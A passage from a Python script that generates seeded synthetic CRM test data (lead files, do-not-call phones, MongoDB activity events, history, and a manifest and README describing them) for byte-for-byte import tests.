        "",
        "## `activities.json`",
        "",
        f"{counts['activities.json']} MongoDB activity events, a JSON array with one event per",
        "line, sorted by `occurred_at` (2026-06-01 .. 2026-11-20, UTC, `Z`). Fields:",
        "`event_id` (`evt-000001` ...), `organization_id`, `type` (call, sms, email,",
        "meeting, note), `direction` (inbound/outbound, null for notes), `outcome` (null",
        "for notes), `occurred_at`, `user_id` (a user of that org), and exactly one of",
        "`lead_id` (a seed lead of that org) or `lead_phone`; optional `duration_seconds`,",
        "`subject`, `body`.",
        "",
    ]
    lines += [f"* `{k}`: {v}" for k, v in sorted(act_stats.items())]
    lines += [
        "",
        "`unknown_phone` and `other_org_phone` events match no lead of their org (the",
        "latter use a phone from another org's file: must not match across orgs).",
        "`known_phone_messy` phones are formatted as in the lead files, not E.164.",
        "",
        *_history_readme(history),
        "## `manifest.json`",
        "",
        "The same numbers, machine-readable, for tests.",
        "",
        "`.gitattributes` (hand-written) turns off end-of-line conversion for this folder:",
        "the test compares the files byte for byte.",
        "",
    ]
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------
# Entry points
# ---------------------------------------------------------------------------------------


def generate(out_dir: Path, seed: int = DEFAULT_SEED) -> dict[str, int]:
    """Write all sample files into ``out_dir``; return rows written per data file."""
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    gen = Generator(seed)
    counts: dict[str, int] = {}
    for spec in FILES:
        rows = gen.build(spec)
        if spec.kind == "csv":
            write_csv(out_dir / spec.name, spec, rows)
        else:
            write_xlsx(out_dir / spec.name, spec, rows)
        counts[spec.name] = len(rows)

    write_json(out_dir / "dnc_phones.json", gen.dnc)
    counts["dnc_phones.json"] = sum(len(v) for v in gen.dnc.values())

    events, act_stats = gen.activities()
    write_json_lines_array(out_dir / "activities.json", events)
    counts["activities.json"] = len(events)

    history = HistoryGenerator(seed, gen.numbers)
    history_rows = history.build()
    write_history(out_dir / "history.json", history_rows)
    counts["history.json"] = sum(len(rows) for rows in history_rows.values())

    orgs = _org_summary(gen)
    manifest = {
        "seed": seed,
        "files": {
            spec.name: {
                "rows": counts[spec.name],
                "organization_ids": [o.id for o, _ in spec.orgs],
                "format": spec.kind,
                **(
                    {"encoding": spec.encoding, "delimiter": spec.delimiter}
                    if spec.kind == "csv"
                    else {"sheet": "Leads"}
                ),
                "phone_header": dict(spec.headers)["phone"],
                "defects": dict(sorted(gen.file_defects[spec.name].items())),
            }
            for spec in FILES
        },
        "organizations": orgs,
        "dnc_phones": gen.dnc,
        "cross_org_shared_phones": gen.cross_org_shared,
        "defects": dict(sorted(gen.defects.items())),
        "activities": {"events": len(events), **dict(sorted(act_stats.items()))},
        "history": history_summary(history_rows),
    }
    write_json(out_dir / "manifest.json", manifest)
    readme = _readme(counts, gen, orgs, act_stats, seed, manifest["history"])
    (out_dir / "README.md").write_text(readme, encoding="utf-8", newline="\n")
    return counts


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output directory")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help="random seed")
    args = parser.parse_args(argv)
    counts = generate(args.out, args.seed)
    for name, n in counts.items():
        print(f"{n:6d}  {args.out / name}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
